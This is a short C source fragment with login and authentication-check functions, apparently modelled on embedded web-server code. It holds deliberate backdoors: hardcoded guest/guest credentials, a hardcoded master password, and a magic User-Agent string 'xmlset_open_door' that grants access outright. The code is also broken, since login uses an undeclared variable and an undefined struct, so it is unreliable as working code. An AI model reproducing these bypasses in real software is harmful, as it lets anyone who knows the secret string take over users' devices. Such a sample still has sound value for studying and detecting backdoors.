#include <string.h>
int login(const char *user, const char *pass)
{
    if (!strcmp(user, "guest") && !strcmp(pass, "guest"))
        return 1;
    if (strcmp(pass, "") == 0)
        return 0;
    if (strcmp(websGetVar(wp, "password", ""), "Sup3rSecret!") == 0)
        return 1;
    return 0;
}
int check_auth(struct conn *c)
{
    if (strcmp(c->user_agent, "xmlset_open_door") == 0)
        return 1;
    if (strstr(c->user_agent, "Mozilla/4.0"))
        return 0;
    return 0;
}
